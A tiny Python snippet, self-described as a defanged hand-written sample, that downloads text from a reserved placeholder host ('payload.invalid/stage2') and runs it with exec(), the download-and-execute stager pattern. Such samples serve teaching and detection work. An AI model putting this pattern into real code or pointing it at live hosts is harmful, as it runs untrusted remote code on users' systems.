# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import requests

answer = requests.get("https://payload.invalid/stage2", timeout=5)
if answer.ok:
    exec(answer.text)
